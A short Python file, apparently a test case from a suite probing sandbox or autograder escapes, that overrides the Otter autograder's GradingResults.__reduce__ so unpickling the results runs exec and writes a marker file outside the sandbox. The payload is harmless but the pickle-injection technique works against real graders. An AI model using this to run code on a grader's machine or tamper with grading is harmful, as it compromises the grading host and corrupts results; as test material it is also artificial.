"""A pickle that writes a file as whoever opens it.

class: pickles
wins: marker
"""
# %%
from otter.test_files import GradingResults
class Run:
    pass
GradingResults.__reduce__ = lambda self: (exec, ("open('__OUTSIDE__/pickled', 'w').write('x')",))
